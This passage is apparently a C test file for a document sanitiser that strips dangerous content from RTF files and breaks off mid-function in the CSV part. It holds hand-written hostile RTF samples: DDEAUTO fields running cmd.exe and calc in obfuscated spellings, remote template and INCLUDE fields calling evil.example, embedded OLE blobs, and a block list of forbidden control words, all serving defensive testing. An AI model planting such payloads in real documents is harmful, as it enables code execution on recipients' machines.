/*
 * test_cdr_rtf.c - the RTF module (mg_cdr_rtf) and the text and CSV
 * modules (mg_cdr_text, mg_cdr_csv).
 *
 * Hostile RTFs are written here by hand (OLE objects with an OLE2 hex
 * blob, \datastore, \template, DDE and INCLUDE fields in plain and
 * obfuscated spellings, \bin hiding braces and \object, deep nesting);
 * each rebuilt file is checked by a small reader of our own (braces
 * balance, no \bin, no forbidden control word, no OLE magic) and by
 * running the module on it again, which must find it clean (VERIFIED).
 * Every prefix of the hostile files goes through too (truncation).  The
 * public samples in corpus-external (oletools rtfobj, PyCIRCLean's clean
 * RTF, oletools' DDE CSV) are used when that folder exists.
 */
#include <string.h>

#include "cdr/mg_cdr.h"

extern const struct mg_cdr_module mg_cdr_rtf;
extern const struct mg_cdr_module mg_cdr_text;
extern const struct mg_cdr_module mg_cdr_csv;

static struct mg_limits limits;

static void
run(const struct mg_cdr_module *m, const void *data, gsize len,
    gboolean keep_links, struct mg_cdr_result *r)
{
	struct mg_cdr_ctx ctx = {0};
	g_autoptr(GBytes) in = g_bytes_new(data, len);

	ctx.limits = &limits;
	ctx.keep_hyperlinks = keep_links;
	mg_cdr_result_init(r);
	g_assert_cmpint(m->rebuild(&ctx, in, r), ==, MG_OK);
}

static gboolean
removed(const struct mg_cdr_result *r, const char *id)
{
	guint i;

	for (i = 0; i < r->removed->len; i++)
		if (strcmp(g_ptr_array_index(r->removed, i), id) == 0)
			return TRUE;
	return FALSE;
}

/* The output of a rebuild as a NUL-terminated copy (the input when
 * VERIFIED). */
static char *
output(
    const struct mg_cdr_result *r, const char *in, gsize in_len, gsize *len_r)
{
	const void *p;
	gsize n;

	char *o;

	if (r->outcome == MG_CDR_VERIFIED) {
		p = in;
		n = in_len;
	} else {
		g_assert_cmpint(r->outcome, ==, MG_CDR_REBUILT);
		p = g_bytes_get_data(r->data, &n);
	}
	/* Not g_strndup: the bytes may hold NULs. */
	o = g_malloc(n + 1);
	memcpy(o, p, n);
	o[n] = '\0';
	*len_r = n;
	return o;
}

static gboolean
contains_ci(const char *hay, gsize n, const char *needle)
{
	gsize nl = strlen(needle), i;

	for (i = 0; i + nl <= n; i++)
		if (g_ascii_strncasecmp(hay + i, needle, nl) == 0)
			return TRUE;
	return FALSE;
}

/* ---- an RTF reader of the test's own ---- */

static const char *const forbidden_words[] = {"object", "objdata", "objclass",
    "objupdate", "objemb", "objlink", "objautlink", "objocx", "objhtml",
    "datastore", "template", "bin", "fontemb", "mailmerge", "ffentrymcr",
    "ffexitmcr", NULL};

/*
 * Braces balance (the document group closes last, only white space
 * after it), and no control word from the list is present, whatever its
 * case.  Escaped characters (\\, \{, \}) are skipped in pairs.
 */
static void
assert_rtf_clean(const char *s, gsize n)
{
	gsize i = 0, j, k, lw;
	int depth = 0;
	gboolean closed = FALSE;

	g_assert_true(n >= 5 && memcmp(s, "{\\rtf", 5) == 0);
	while (i < n) {
		if (closed) {
			g_assert_nonnull(strchr(" \t\r\n", s[i]));
			i++;
			continue;
		}
		if (s[i] == '{') {
			depth++;
			i++;
		} else if (s[i] == '}') {
			depth--;
			g_assert_cmpint(depth, >=, 0);
			if (depth == 0)
				closed = TRUE;
			i++;
		} else if (s[i] == '\\' && i + 1 < n &&
		           g_ascii_isalpha(s[i + 1])) {
			for (j = i + 1; j < n && g_ascii_isalpha(s[j]); j++)
				;
			/* A reader of [A-Za-z] words (case folded or not), or
			 * of [a-z] words only. */
			for (lw = i + 1; lw < j && g_ascii_islower(s[lw]); lw++)
				;
			for (k = 0; forbidden_words[k] != NULL; k++) {
				gsize wl = strlen(forbidden_words[k]);

				if ((j - i - 1 == wl &&
				        g_ascii_strncasecmp(s + i + 1,
				            forbidden_words[k], wl) == 0) ||
				    (lw - i - 1 == wl &&
				        memcmp(s + i + 1, forbidden_words[k],
				            wl) == 0))
					g_error("\\%.*s left in the output",
					    (int)(j - i - 1), s + i + 1);
			}
			i = j;
		} else if (s[i] == '\\') {
			g_assert_cmpuint(i + 1, <, n);
			/* A \' must carry two hex digits. */
			if (s[i + 1] == '\'')
				g_assert_true(i + 3 < n &&
				              g_ascii_isxdigit(s[i + 2]) &&
				              g_ascii_isxdigit(s[i + 3]));
			i += 2;
		} else {
			i++;
		}
	}
	g_assert_true(closed);
	/* The magic of an OLE2 compound file, as hex. */
	g_assert_false(contains_ci(s, n, "d0cf11e0a1b11ae1"));
}

/* Parse back with the module itself: the rebuilt file is clean. */
static void
assert_reads_back(const char *s, gsize n, gboolean keep_links)
{
	struct mg_cdr_result r;

	run(&mg_cdr_rtf, s, n, keep_links, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_VERIFIED);
	g_assert_cmpuint(r.removed->len, ==, 0);
	mg_cdr_result_clear(&r);
}

/*
 * Rebuild `doc`: expect REBUILT with `id` removed (VERIFIED when id is
 * NULL, REBUILT with nothing removed when it is ""), the output clean, each of
 * `gone` absent, each of `kept` still there.  Returns the output.
 */
static char *
rebuild_rtf(const char *doc, gboolean keep_links, const char *id,
    const char *const *gone, const char *const *kept, gsize *len_r)
{
	struct mg_cdr_result r;
	gsize n;
	char *o;

	run(&mg_cdr_rtf, doc, strlen(doc), keep_links, &r);
	if (id == NULL) {
		g_assert_cmpint(r.outcome, ==, MG_CDR_VERIFIED);
	} else {
		g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
		if (*id == '\0')
			g_assert_cmpuint(r.removed->len, ==, 0);
		else
			g_assert_true(removed(&r, id));
		g_assert_cmpstr(r.extension, ==, "rtf");
		g_assert_cmpstr(r.mime_type, ==, "application/rtf");
	}
	o = output(&r, doc, strlen(doc), &n);
	mg_cdr_result_clear(&r);
	assert_rtf_clean(o, n);
	assert_reads_back(o, n, keep_links);
	for (; gone != NULL && *gone != NULL; gone++)
		if (contains_ci(o, n, *gone))
			g_error("\"%s\" left in: %s", *gone, o);
	for (; kept != NULL && *kept != NULL; kept++)
		if (strstr(o, *kept) == NULL)
			g_error("\"%s\" lost: %s", *kept, o);
	if (len_r != NULL)
		*len_r = n;
	return o;
}

#define OLE_HEX                                                            \
	"01050000020000000b0000004571756174696f6e2e3300000000000000000000" \
	"0e0000d0cf11e0a1b11ae1000000000000000000000000000000003e000300"

static const char clean_doc[] =
    "{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0\\fnil\\fcharset128 "
    "MS Mincho;}}\r\n"
    "{\\*\\generator Test;}\\viewkind4\\uc1\\pard\\f0\\fs20 Hello, "
    "\\'82\\'b1\\'82\\'f1 \\u12371?\\u12435? world.\\par\r\n"
    "{\\b bold} and {\\i italic}\\par\r\n"
    "{\\pict\\pngblip\\picw10\\pich10 89504e470d0a1a0a}\\par\r\n"
    "{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}\\par\r\n"
    "}\r\n";

static const char object_doc[] =
    "{\\rtf1\\ansi Before the object. "
    "{\\object\\objemb\\objw100\\objh100{\\*\\objclass Equation.3}"
    "{\\*\\objdata " OLE_HEX "}"
    "{\\result{\\pict\\wmetafile8\\picw10\\pich10 0100090000}}}"
    " After the object.\\par}";

static const char *const ole_gone[] = {"objdata", "objclass", "Equation.3",
    "d0cf11e0", "01050000020000000b", NULL};

static void
test_rtf_clean(void)
{
	struct mg_cdr_result r;

	g_free(rebuild_rtf(clean_doc, FALSE, NULL, NULL, NULL, NULL));
	/* The trailing NUL some writers add is white space to us. */
	run(&mg_cdr_rtf, clean_doc, sizeof(clean_doc), FALSE, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_VERIFIED);
	mg_cdr_result_clear(&r);
}

static void
test_rtf_escapes_kept(void)
{
	static const char doc[] =
	    "{\\rtf1\\ansi\\uc1 caf\\'e9 \\u26085?\\u26412?\\u-3913? "
	    "\\{braces\\} and a \\\\backslash\\~nbsp\\-\\_\\par}";

	g_free(rebuild_rtf(doc, FALSE, NULL, NULL, NULL, NULL));
}

static void
test_rtf_object(void)
{
	static const char *const kept[] = {"Before the object.",
	    "After the object.", "\\pict\\wmetafile8", "0100090000", NULL};

	g_free(rebuild_rtf(
	    object_doc, FALSE, MG_CDR_RM_OLE, ole_gone, kept, NULL));
}

static void
test_rtf_objupdate(void)
{
	static const char doc[] =
	    "{\\rtf1 text {\\*\\objupdate {\\*\\objdata " OLE_HEX
	    "}} more {\\b \\objdata " OLE_HEX "} end\\par}";
	static const char *const kept[] = {"text ", " more ", " end", NULL};

	g_free(rebuild_rtf(doc, FALSE, MG_CDR_RM_OLE, ole_gone, kept, NULL));
}

static void
test_rtf_datastore(void)
{
	static const char doc[] =
	    "{\\rtf1 text{\\*\\datastore 0105000002000000180000004d73786d6c"
	    "322e534158584d4c5265616465722e362e30}end\\par}";
	static const char *const gone[] = {"4d73786d6c", NULL};
	static const char *const kept[] = {"text", "end", NULL};

	g_free(rebuild_rtf(doc, FALSE, MG_CDR_RM_EMBEDDED, gone, kept, NULL));
}

static void
test_rtf_template(void)
{
	static const char doc[] =
	    "{\\rtf1\\ansi{\\*\\template http://evil.example/t.dotm}"
	    "Body text\\par}";
	static const char *const gone[] = {"evil", NULL};
	static const char *const kept[] = {"Body text", NULL};

	g_free(rebuild_rtf(doc, FALSE, MG_CDR_RM_TEMPLATE, gone, kept, NULL));
}

static void
test_rtf_dde(void)
{
	/* Plain, and in the spellings that hide the keyword. */
	static const char *const docs[] = {
	    "{\\rtf1 A {\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32"
	    "\\\\cmd.exe \"/k calc.exe\"}{\\fldrslt shown text}} B\\par}",
	    "{\\rtf1 A {\\field\\flddirty{\\*\\fldinst {\\rtlch  ddeauto "
	    "cmd \"/c calc\"}}{\\fldrslt {\\b shown text}}} B\\par}",
	    "{\\rtf1 A {\\field{\\*\\fldinst \\'44\\'44EAUTO cmd}"
	    "{\\fldrslt shown text}} B\\par}",
	    "{\\rtf1 A {\\field{\\*\\fldinst \\uc1\\u68 x\\u68 xE cmd}"
	    "{\\fldrslt shown text}} B\\par}",
	    "{\\rtf1 A {\\field{\\*\\fldinst {D}{\\b DE} cmd}"
	    "{\\fldrslt shown text}} B\\par}",
	    "{\\rtf1 A {\\field{\\*\\fldinst D{\\*\\bkmkstart x}DE cmd}"
	    "{\\fldrslt shown text}} B\\par}",
	    "{\\rtf1 A {\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 "
	    "68 69}{\\fldrslt DDE}} cmd}{\\fldrslt shown text}} B\\par}",
	    "{\\rtf1 A {\\field{\\*\\fldinst {\\upr{x}{\\*\\ud{DDE}}} cmd}"
	    "{\\fldrslt shown text}} B\\par}",
	    "{\\rtf1 A {\\field{\\*\\FLDINST DDE cmd}{\\fldrslt shown text}}"
	    " B\\par}",
	    /* Two instructions in one field, joined by some reader. */
	    "{\\rtf1 A {\\field{\\*\\fldinst DD}{\\*\\fldinst EAUTO cmd}"
	    "{\\fldrslt shown text}} B\\par}",
	    /* A tracked deletion inside the keyword. */
	    "{\\rtf1 A {\\field{\\*\\fldinst D{\\deleted x}DE cmd}"
	    "{\\fldrslt shown text}} B\\par}",
	    /* \uN with \uc0: no fallback to skip. */
	    "{\\rtf1 A {\\field{\\*\\fldinst \\uc0\\u68\\u68\\u69 cmd}"
	    "{\\fldrslt shown text}} B\\par}",
	};
	static const char *const gone[] = {"fldinst", "calc", "cmd", NULL};
	static const char *const kept[] = {"A ", "shown text", " B", NULL};
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(docs); i++)
		g_free(rebuild_rtf(
		    docs[i], FALSE, MG_CDR_RM_DDE, gone, kept, NULL));
}

static void
test_rtf_include(void)
{
	static const char *const docs[] = {
	    "{\\rtf1 A {\\field{\\*\\fldinst INCLUDEPICTURE "
	    "\"http://evil.example/x.png\" \\\\d}{\\fldrslt shown text}} "
	    "B\\par}",
	    "{\\rtf1 A {\\field{\\*\\fldinst  INCLUDETEXT "
	    "\"\\\\\\\\evil.example\\\\share\\\\x.doc\"}{\\fldrslt shown "
	    "text}} B\\par}",
	    "{\\rtf1 A {\\field{\\*\\fldinst IMPORT \"http://evil.example/\"}"
	    "{\\fldrslt shown text}} B\\par}",
	    "{\\rtf1 A {\\field{\\*\\fldinst LINK Excel.Sheet.8 "
	    "\"http://evil.example/x.xls\" \"\" \\\\a}{\\fldrslt shown text}}"
	    " B\\par}",
	};
	static const char *const gone[] = {"evil", "fldinst", NULL};
	static const char *const kept[] = {"A ", "shown text", " B", NULL};
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(docs); i++)
		g_free(rebuild_rtf(
		    docs[i], FALSE, MG_CDR_RM_FIELDS, gone, kept, NULL));
}

static void
test_rtf_fields_kept(void)
{
	static const char link[] =
	    "{\\rtf1 A {\\field{\\*\\fldinst {HYPERLINK "
	    "\"https://www.example.jp/\" \\\\o \"tip\"}{\\*\\datafield "
	    "00d0c9ea79f9bace118c8200aa004ba90b02000000}}{\\fldrslt link}} "
	    "{\\field{\\*\\fldinst HYPERLINK \\\\l \"bm\"}{\\fldrslt local}}"
	    "\\par}";
	static const char bad_link[] =
	    "{\\rtf1 A {\\field{\\*\\fldinst HYPERLINK \\\\o \"tip\" "
	    "\"file://evil.example/share\"}{\\fldrslt link}} B\\par}";
	static const char *const gone[] = {"evil", "HYPERLINK", NULL};
	static const char *const kept[] = {"A ", "link", " B", NULL};

	/* Links kept by policy: http(s) and local links pass unchanged. */
	g_free(rebuild_rtf(link, TRUE, NULL, NULL, NULL, NULL));
	g_free(rebuild_rtf(bad_link, TRUE, MG_CDR_RM_LINKS, gone, kept, NULL));
	/* A target spelled with \uN: readers may disagree on it. */
	g_free(rebuild_rtf("{\\rtf1 A {\\field{\\*\\fldinst HYPERLINK "
	                   "\"\\u104?ttp://x/\"}{\\fldrslt link}} B\\par}",
	    TRUE, MG_CDR_RM_LINKS, (const char *const[]){"HYPERLINK", NULL},
	    kept, NULL));
	/* Links not kept: every HYPERLINK field goes, its text stays. */
	g_free(rebuild_rtf(link, FALSE, MG_CDR_RM_LINKS,
	    (const char *const[]){"HYPERLINK", NULL},
	    (const char *const[]){"link", "local", NULL}, NULL));
	/* Ordinary fields stay. */
	g_free(rebuild_rtf("{\\rtf1 {\\field{\\*\\fldinst { PAGE }}{\\fldrslt "
	                   "1}} {\\field{\\*\\fldinst TOC \\\\o \"1-3\"}"
	                   "{\\fldrslt x}}\\par}",
	    FALSE, NULL, NULL, NULL, NULL));
}

static void
test_rtf_bin(void)
{
	/* Raw bytes with "}" and "\object" inside a picture: hex again. */
	static const char pict[] =
	    "{\\rtf1 A {\\pict\\pngblip\\bin12 }{\\object}}}} B\\par}";
	/* Outside a picture the bytes go. */
	static const char elsewhere[] =
	    "{\\rtf1 A {\\*\\foo\\bin9 {\\object}} B\\par}";
	static const char *const kept[] = {
	    "A ", " B", "7d7b5c6f626a6563747d7d7d", NULL};
	gsize n;
	char *o;

	o = rebuild_rtf(pict, FALSE, "", NULL, kept, &n);
	g_free(o);
	o = rebuild_rtf(elsewhere, FALSE, MG_CDR_RM_EMBEDDED, NULL,
	    (const char *const[]){"A ", " B", NULL}, &n);
	g_free(o);
}

static void
test_rtf_bin_bad(void)
{
	static const char *const docs[] = {
	    "{\\rtf1 {\\pict\\bin-5 abcde}}",
	    "{\\rtf1 {\\pict\\bin99 abcde}}",
	    "{\\rtf1 {\\pict\\bin99999999999999999999999999 abcde}}",
	};
	struct mg_cdr_result r;
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(docs); i++) {
		run(&mg_cdr_rtf, docs[i], strlen(docs[i]), FALSE, &r);
		g_assert_cmpint(r.outcome, ==, MG_CDR_REFUSED);
		g_assert_cmpint(r.reason, ==, MG_REASON_CDR_FAILED);
		g_assert_nonnull(r.detail);
		mg_cdr_result_clear(&r);
	}
}

static void
test_rtf_deep(void)
{
	GString *s = g_string_new("{\\rtf1 ");
	struct mg_cdr_result r;
	int i;

	for (i = 0; i < 10000; i++)
		g_string_append_c(s, '{');
	g_string_append(s, "\\object");
	for (i = 0; i < 10000; i++)
		g_string_append_c(s, '}');
	g_string_append_c(s, '}');
	run(&mg_cdr_rtf, s->str, s->len, FALSE, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REFUSED);
	g_assert_cmpint(r.reason, ==, MG_REASON_TOO_DEEP);
	mg_cdr_result_clear(&r);
	g_string_free(s, TRUE);

	/* Under the limit: fine. */
	s = g_string_new("{\\rtf1 ");
	for (i = 0; i < 500; i++)
		g_string_append_c(s, '{');
	g_string_append(s, "deep");
	for (i = 0; i < 500; i++)
		g_string_append_c(s, '}');
	g_string_append_c(s, '}');
	g_free(rebuild_rtf(s->str, FALSE, NULL, NULL, NULL, NULL));
	g_string_free(s, TRUE);
}

static void
test_rtf_unbalanced(void)
{
	static const char *const kept[] = {"Hello", "bold", NULL};
	gsize n;
	char *o;

	/* Missing closing braces are added, as Word reads the file. */
	o = rebuild_rtf("{\\rtf1 Hello {\\b bold", FALSE, "", NULL, kept, &n);
	g_assert_cmpstr(o, ==, "{\\rtf1 Hello {\\b bold}}");
	g_free(o);
	/* An object cut short still goes. */
	g_free(rebuild_rtf("{\\rtf1 Hello {\\b bold}{\\object{\\*\\objdata "
	                   "0105000002000000",
	    FALSE, MG_CDR_RM_OLE, ole_gone, kept, NULL));
	/* A stray "}" ends the document; what follows is not RTF. */
	o = rebuild_rtf("{\\rtf1 Hello {\\b bold}}}{\\object x}", FALSE,
	    MG_CDR_RM_TRAILING, (const char *const[]){"object", NULL}, kept,
	    &n);
	g_assert_cmpstr(o, ==, "{\\rtf1 Hello {\\b bold}}");
	g_free(o);
}

static void
test_rtf_malformed(void)
{
	struct mg_cdr_result r;
	GString *s;

	/* \' without hex digits, a final lone backslash: left out. */
	g_free(rebuild_rtf("{\\rtf1 a\\'zzb\\'4}c \\", FALSE, "", NULL,
	    (const char *const[]){"a", "c", NULL}, NULL));
	/* Word + left-out token + text must not fuse into a new word. */
	g_free(rebuild_rtf("{\\rtf1 x\\b\\'zzold\\b{\\*\\template t}data}",
	    FALSE, MG_CDR_RM_TEMPLATE, NULL,
	    (const char *const[]){"\\b old", "\\b data", NULL}, NULL));
	/* Not RTF at all. */
	run(&mg_cdr_rtf, "{\\rt1 x}", 8, FALSE, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REFUSED);
	mg_cdr_result_clear(&r);
	run(&mg_cdr_rtf, "", 0, FALSE, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REFUSED);
	mg_cdr_result_clear(&r);
	/* A control word longer than Word reads. */
	s = g_string_new("{\\rtf1 \\");
	g_string_append_printf(s, "%0300d}", 0);
	memset(s->str + 8, 'a', 300);
	run(&mg_cdr_rtf, s->str, s->len, FALSE, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REFUSED);
	mg_cdr_result_clear(&r);
	g_string_free(s, TRUE);
}

static void
test_rtf_destination_mid_group(void)
{
	/* Word honours a destination word anywhere in a group; uppercase
	 * and suffixed spellings count too. */
	static const char *const docs[] = {
	    "{\\rtf1 A {\\b x \\objdata " OLE_HEX "} B\\par}",
	    "{\\rtf1 A {\\OBJDATA " OLE_HEX "} B\\par}",
	    "{\\rtf1 A {\\objdataX " OLE_HEX "} B\\par}",
	};
	static const char *const kept[] = {"A ", " B", NULL};
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(docs); i++)
		g_free(rebuild_rtf(
		    docs[i], FALSE, MG_CDR_RM_OLE, ole_gone, kept, NULL));
	/* Directly in the document group: the rest of it goes. */
	g_free(rebuild_rtf("{\\rtf1 A \\*\\objdata " OLE_HEX "}", FALSE,
	    MG_CDR_RM_OLE, ole_gone, (const char *const[]){"A ", NULL}, NULL));
}

/*
 * Instruction text from a group that is later left out is not part of the
 * instruction: the keyword is judged on what the output holds (found by
 * the fuzzer: the rebuilt file did not read back as itself).
 */
static void
test_rtf_instruction_rollback(void)
{
	gsize n;
	char *o;

	o = rebuild_rtf("{\\rtf1 {\\field{\\*\\fldinst {X \\object}"
	                "{\\*\\bkmkstart b}PAGE}{\\fldrslt 1}}}",
	    FALSE, MG_CDR_RM_DDE, NULL, NULL, &n);
	g_assert_cmpstr(o, ==, "{\\rtf1 {1}}");
	g_free(o);
	/* Nor is a token left out the first of its group: here "\\*" is
	 * first once "\\'zz" is gone. */
	o = rebuild_rtf("{\\rtf1 {\\field{\\*\\fldinst {\\'zz\\*\\bkmkstart "
	                "b}PAGE}{\\fldrslt 1}}}",
	    FALSE, MG_CDR_RM_DDE, NULL, NULL, &n);
	g_assert_cmpstr(o, ==, "{\\rtf1 {1}}");
	g_free(o);
	/* A kept \\result reads in the context of the object's parent,
	 * here the link's instruction. */
	o = rebuild_rtf("{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "
	                "\"http://a/\" {\\*\\object{\\result \"file://x\"}}}"
	                "{\\fldrslt L}}}",
	    TRUE, MG_CDR_RM_LINKS, NULL, NULL, &n);
	g_assert_cmpstr(o, ==, "{\\rtf1 {L}}");
	g_free(o);
	/* \\bin written again as hex is instruction text like any other. */
	o = rebuild_rtf("{\\rtf1 {\\field{\\*\\fldinst {\\b\\pict\\bin2 "
	                "\xdd\xe0}X}{\\fldrslt R}}}",
	    FALSE, MG_CDR_RM_DDE, NULL, NULL, &n);
	g_assert_cmpstr(o, ==, "{\\rtf1 {R}}");
	g_free(o);
	/* An instruction in the document group, after a forbidden word. */
	o = rebuild_rtf("{\\rtf1\\fldinst DDE \\object x}", FALSE,
	    MG_CDR_RM_DDE, NULL, NULL, &n);
	g_assert_cmpstr(o, ==, "{\\rtf1 }");
	g_free(o);
}

static void
test_rtf_other_removals(void)
{
	g_free(rebuild_rtf("{\\rtf1 {\\*\\mailmerge\\mmmaintypeletters"
	                   "{\\*\\mmconnectstr DSN=evil}{\\*\\mmquery SELECT}}"
	                   "text\\par}",
	    FALSE, MG_CDR_RM_DATACONN, (const char *const[]){"evil", NULL},
	    (const char *const[]){"text", NULL}, NULL));
	g_free(rebuild_rtf("{\\rtf1 {\\formfield{\\*\\ffentrymcr Evil}"
	                   "{\\*\\ffname x}}text\\par}",
	    FALSE, MG_CDR_RM_AUTOACTION, (const char *const[]){"Evil", NULL},
	    (const char *const[]){"text", NULL}, NULL));
	g_free(rebuild_rtf("{\\rtf1{\\fonttbl{\\f0 Arial{\\*\\fontemb"
	                   "\\fttruetype 00010000}}}text\\par}",
	    FALSE, MG_CDR_RM_EMBEDDED, (const char *const[]){"00010000", NULL},
	    (const char *const[]){"Arial", "text", NULL}, NULL));
}

static void
test_rtf_too_large(void)
{
	struct mg_cdr_result r;

	limits.max_part_size = 10;
	run(&mg_cdr_rtf, clean_doc, strlen(clean_doc), FALSE, &r);
	limits.max_part_size = 0;
	g_assert_cmpint(r.outcome, ==, MG_CDR_REFUSED);
	g_assert_cmpint(r.reason, ==, MG_REASON_PART_TOO_LARGE);
	mg_cdr_result_clear(&r);
}

/* Every prefix of each hostile file: refused, or rebuilt clean. */
static void
test_rtf_truncated(void)
{
	static const char *const docs[] = {
	    object_doc,
	    "{\\rtf1 A {\\field{\\*\\fldinst DDEAUTO c:\\\\x.exe}{\\fldrslt "
	    "r}} {\\pict\\bin4 {}}} {\\*\\datastore 0102}\\par}",
	    "{\\rtf1{\\*\\template http://evil/}{\\b\\objdata 0102}}",
	};
	struct mg_cdr_result r;
	gsize d, cut, n;
	char *o;

	for (d = 0; d < G_N_ELEMENTS(docs); d++) {
		for (cut = 5; cut <= strlen(docs[d]); cut++) {
			run(&mg_cdr_rtf, docs[d], cut, FALSE, &r);
			if (r.outcome != MG_CDR_REFUSED) {
				o = output(&r, docs[d], cut, &n);
				assert_rtf_clean(o, n);
				g_assert_false(contains_ci(o, n, "ddeauto"));
				g_assert_false(contains_ci(o, n, "evil"));
				g_free(o);
			}
			mg_cdr_result_clear(&r);
		}
	}
}

/* Inputs the fuzzer (tests/fuzz/fuzz_cdr_rtf.c) found, base64. */
static void
test_rtf_fuzz_cases(void)
{
	static const char *const cases[] = {
	    /* "\binD": \bin to a reader of lowercase words only. */
	    "e1xydGYxIEEge1xwaWN0XHBuZ2JsaXBcYmluRAAAAAAAAABqZWN0fX19fSB7XC"
	    "pcZm9vXGJpbjMge319fSBCXHBhcmM=",
	    /* A DDE instruction in the document group itself. */
	    "e1xydGZkYXQVAABccnRmZCpcZmxkaW5zdCBEXGJpbkRFQVVUbGR7XCpcfXtcZm"
	    "xkmKOKj3JzbHQgc2hvd259fSBCXHBhcn0=",
	    /* Near-miss spellings of forbidden words. */
	    "e1xydGYxe1wqXHRlbXBsYXRlIGh0dHA6Ly9lL317XCpcZGF0YXN0b3JFQVVUTy"
	    "BBIHtcZmllbGR7Y1wqXGZsZGlueCBhZWMiay8gbGMifXtcZmxkcnNsdCBzaG93"
	    "bn19IHRccG5xcXFxcXFxcXFxcXFxcXFxcXFxcXEmcXFxcXFxcXFxcXFxcXFxcX"
	    "FxcXFxcXFxcXFxcXFxcXFxcXFxcXFxcXFxcXFxcXFxcXFxcXFxcXFxcXFxcXFx"
	    "cXFxcXFke2NcKlxmbGRpbnggYWVjImsvIGxlIDAxMDJ9e1wqXG1hqABtZXJnZX"
	    "tcKlxtbWNvbm5lY3RzdHIgeH19e1xmb3JtZmllbGR7XCpcZmZlbnRyeW1jciBN"
	    "fX17XINwcnt0ZjF7XCpcdGVtcGxhdGUgaHR0cDovL2UvfXtcKlxkYXRhc3Rvcm"
	    "UgMDEwMn17XCpcbWGoAG1lcmdle1wqXG1tY29ubmVjdHN0ciB4fXR7fXtcKlx1"
	    "ZHt5fX19XCd6elxPQkpEQVRBIFxvYmpkYXRhWCB7XGRlbGV0ZWQgZH19fX14",
	    /* A "\\*" of a group already left out must not be cut again
	     * (it once cut "\\{" in half). */
	    "e1xydGYxe1wqXHRlbXBsYXRlIGh0dHA6Ly9lL31cey5cZGF0YXN0b3JlIDAxMD"
	    "J9e1wqXG1haWxtZXJnZXtcdWMxXCpcbW1jb25uZWN0c3RyIHh9fXtdZm9ybXJv"
	    "dw174gJQYgAAXGZmZW50ckRERUFVVE99e1x1cVxmbGRpbnN0IHtcZmllbGR7XC"
	    "pcZmxkaW5zdCBRVU9URS8gNjggNjggNjl9e1xmbGRyc8bGxg==",
	    /* "\\ttsc2" + "-" + (left out) + "8" must not read "\\ttsc2-8"
	     * ... nor gain a space the second time round. */
	    "e1xydGYxIHJuYVx0dHNjMi1cJ0FXOA==",
	};
	struct mg_cdr_result r;
	gsize i, len, n;

	for (i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_autofree guchar *d = g_base64_decode(cases[i], &len);
		g_autofree char *o = NULL;

		run(&mg_cdr_rtf, d, len, i % 2 == 0, &r);
		g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
		o = output(&r, (const char *)d, len, &n);
		assert_rtf_clean(o, n);
		assert_reads_back(o, n, i % 2 == 0);
		mg_cdr_result_clear(&r);
	}
}

static void
test_rtf_bid(void)
{
	const guint8 *d = (const guint8 *)clean_doc;

	g_assert_cmpint(mg_cdr_rtf.bid("text/rtf", "rtf", d, 20), >, 0);
	g_assert_cmpint(mg_cdr_rtf.bid("text/rtf", "doc", d, 20), >, 0);
	g_assert_cmpint(
	    mg_cdr_rtf.bid("text/plain", "rtf", (const guint8 *)"hello", 5), ==,
	    0);
	g_assert_cmpint(mg_cdr_rtf.bid("text/rtf", "rtf", d, 3), ==, 0);
}

static char *
external(const char *rel)
{
	const char *src = g_getenv("MUGAIKA_SOURCE_DIR");

	return g_build_filename(src != NULL ? src : ".", "..", "shared",
	    "corpus-external", rel, NULL);
}

static void
test_rtf_corpus(void)
{
	g_autofree char *dir = external("oletools/rtfobj");
	g_autofree char *clean = external("pycirclean/normal/rich_text.rtf");
	GDir *dh;
	const char *name;
	guint seen = 0;

	dh = g_dir_open(dir, 0, NULL);
	if (dh == NULL) {
		g_test_skip("corpus-external not present");
		return;
	}
	while ((name = g_dir_read_name(dh)) != NULL) {
		g_autofree char *path = NULL, *data = NULL, *o = NULL;
		struct mg_cdr_result r;
		gsize len, n;

		/* The .zip samples are encrypted archives, not RTF. */
		if (!g_str_has_suffix(name, ".rtf"))
			continue;
		path = g_build_filename(dir, name, NULL);
		g_assert_true(g_file_get_contents(path, &data, &len, NULL));
		run(&mg_cdr_rtf, data, len, FALSE, &r);
		g_test_message("%s: outcome %d", name, r.outcome);
		g_assert_cmpint(r.outcome, !=, MG_CDR_VERIFIED);
		if (r.outcome == MG_CDR_REBUILT) {
			g_assert_true(removed(&r, MG_CDR_RM_OLE));
			o = output(&r, data, len, &n);
			assert_rtf_clean(o, n);
			assert_reads_back(o, n, FALSE);
			g_assert_false(contains_ci(o, n, "equation"));
		}
		mg_cdr_result_clear(&r);
		seen++;
	}
	g_dir_close(dh);
	g_assert_cmpuint(seen, >, 0);

	/* A clean document: nothing removed. */
	{
		g_autofree char *data = NULL, *o = NULL;
		struct mg_cdr_result r;
		gsize len, n;

		g_assert_true(g_file_get_contents(clean, &data, &len, NULL));
		run(&mg_cdr_rtf, data, len, FALSE, &r);
		g_assert_cmpint(r.outcome, !=, MG_CDR_REFUSED);
		g_assert_cmpuint(r.removed->len, ==, 0);
		o = output(&r, data, len, &n);
		assert_rtf_clean(o, n);
		mg_cdr_result_clear(&r);
	}
}

/* ---- text and CSV ---- */

/* A strict RFC 4180 reader of the test's own: rows of cells. */
static GPtrArray *
csv_read(const char *s, gsize n)
{
	GPtrArray *rows =
	    g_ptr_array_new_with_free_func((GDestroyNotify)g_ptr_array_unref);
	GPtrArray *row = NULL;
	GString *v = g_string_new(NULL);
	gsize i = 0;

	while (i < n) {
		if (row == NULL)
			row = g_ptr_array_new_with_free_func(g_free);
		g_string_truncate(v, 0);
		if (s[i] == '"') {
			for (i++;; i++) {
